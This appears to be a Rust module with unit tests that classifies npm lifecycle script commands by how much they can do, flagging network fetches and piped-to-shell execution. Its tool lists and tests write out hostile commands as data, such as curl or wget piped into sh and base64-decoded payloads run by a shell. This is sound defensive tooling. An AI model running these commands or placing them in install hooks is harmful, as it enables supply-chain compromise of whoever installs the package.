//! What a lifecycle script (`prepare`, `postinstall`, ...) can do, read from its command text.
//! Only test-fixture apps get leniency from it (see `compare`): a fixture app's `prepare` is
//! typically its framework's code generation (`svelte-kit sync`, `nuxt prepare`, `astro sync`),
//! repeated in every sibling app, while the moves that matter look different: a shell
//! one-liner that edits files, an interpreter running a script, or code fetched from the
//! network.

/// How much a lifecycle script's command can do, from least to most.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum ScriptShape {
    /// One program, named without a path, that is not a general-purpose tool, with plain word
    /// and flag arguments: a dependency's command-line tool doing its one job.
    Plain,
    /// Anything else the gate cannot judge from the text: shell operators, interpreters,
    /// file-editing commands, package runners, paths.
    Opaque,
    /// Fetches something from the network or runs code decoded or piped from a stream
    /// (`curl … | sh`, `base64 -d | bash`): never lenient, wherever it is.
    Remote,
}

/// Programs that download.
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "aria2c",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "certutil",
    "bitsadmin",
    "scp",
    "rsync",
    "nc",
    "ncat",
    "ftp",
    "tftp",
];

/// Programs that run code handed to them, or turn data into code.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "cmd",
    "powershell",
    "pwsh",
    "node",
    "nodejs",
    "deno",
    "bun",
    "python",
    "python3",
    "py",
    "perl",
    "ruby",
    "php",
    "eval",
    "exec",
    "source",
    "iex",
    "invoke-expression",
];

/// General-purpose programs: what they do depends entirely on their arguments, so a call to
/// one is never plain.
const GENERAL_TOOLS: &[&str] = &[
    "npx",
    "pnpx",
    "bunx",
    "npm",
    "pnpm",
    "yarn",
    "corepack",
    "env",
    "sudo",
    "xargs",
    "find",
    "rm",
    "rimraf",
    "del",
    "del-cli",
    "shx",
    "mv",
    "cp",
    "cpy",
    "cpx",
    "ln",
    "sed",
    "awk",
    "tee",
    "touch",
    "truncate",
    "chmod",
    "chown",
    "dd",
    "echo",
    "printf",
    "cat",
    "git",
    "tar",
    "unzip",
    "make",
    "patch",
    "patch-package",
    "base64",
    "openssl",
    "install",
    "mkdir",
    "rmdir",
    "cd",
    "export",
    "set",
    "start",
    "open",
    "osascript",
];

fn program(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.strip_suffix(".exe").unwrap_or(name)
}

/// `command` without a trailing fallback that only swallows its failure (`|| true`, `|| :`,
/// `|| exit 0`, `|| echo ''`): project templates write `svelte-kit sync || echo ''` so that an
/// install does not fail before the framework is built.
fn without_failure_fallback(command: &str) -> &str {
    let Some((head, fallback)) = command.rsplit_once("||") else {
        return command;
    };
    let fallback = fallback.trim();
    let echo_only = fallback.strip_prefix("echo").is_some_and(|rest| {
        (rest.is_empty() || rest.starts_with(' '))
            && rest.chars().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, ' ' | '\'' | '"' | '-' | '_' | '.' | ',')
            })
    });
    if matches!(fallback, "true" | ":" | "exit 0") || echo_only {
        head.trim()
    } else {
        command
    }
}

/// Most words a plain command has.
const MAX_PLAIN_WORDS: usize = 6;

pub(crate) fn shape(command: &str) -> ScriptShape {
    let lower = command.to_ascii_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    '|' | ';' | '&' | '(' | ')' | '`' | '$' | '<' | '>' | '"' | '\'' | '{' | '}'
                )
        })
        .filter(|w| !w.is_empty())
        .collect();
    let piped_into_interpreter = lower.split('|').skip(1).any(|stage| {
        stage
            .split_whitespace()
            .next()
            .is_some_and(|first| INTERPRETERS.contains(&program(first)))
    });
    if lower.contains("://")
        || piped_into_interpreter
        || words
            .iter()
            .any(|w| DOWNLOADERS.contains(&program(w)) || program(w) == "base64")
    {
        return ScriptShape::Remote;
    }
    let tokens: Vec<&str> = without_failure_fallback(&lower)
        .split_whitespace()
        .collect();
    let Some((first, args)) = tokens.split_first() else {
        return ScriptShape::Opaque;
    };
    let program_ok = first
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '@'))
        && !INTERPRETERS.contains(first)
        && !GENERAL_TOOLS.contains(first);
    let args_ok = args.iter().all(|arg| {
        !arg.contains("..")
            && arg.chars().all(|c| {
                c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | ':' | '=' | '@' | ',')
            })
    });
    if program_ok && args_ok && tokens.len() <= MAX_PLAIN_WORDS {
        ScriptShape::Plain
    } else {
        ScriptShape::Opaque
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        for plain in [
            "svelte-kit sync",
            "nuxt prepare",
            "astro sync",
            "husky",
            "tsc -p tsconfig.build.json",
            "node-gyp-build",
            "svelte-kit sync || echo ''",
            "svelte-kit sync || true",
        ] {
            assert_eq!(shape(plain), ScriptShape::Plain, "{plain}");
        }
        for opaque in [
            "node scripts/setup.js",
            "npm run build",
            "svelte-kit sync && sed -i s/a/b/ x",
            "rm -rf ../../tests",
            "rimraf tests",
            "./install.sh",
            "FOO=1 tool",
            "tool ../other",
            "svelte-kit sync || echo x > tests/a.py",
            "svelte-kit sync || rm -rf tests",
            "a || b || true",
            "",
        ] {
            assert_eq!(shape(opaque), ScriptShape::Opaque, "{opaque}");
        }
        for remote in [
            "curl -fsSL https://example.com/i.sh | sh",
            "wget -qO- example.com/x | bash",
            "/usr/bin/curl example.com -o x",
            "echo ZXZpbA== | base64 -d | sh",
            "cat payload | node",
            "node -e \"require('https').get('http://x')\"",
        ] {
            assert_eq!(shape(remote), ScriptShape::Remote, "{remote}");
        }
    }
}
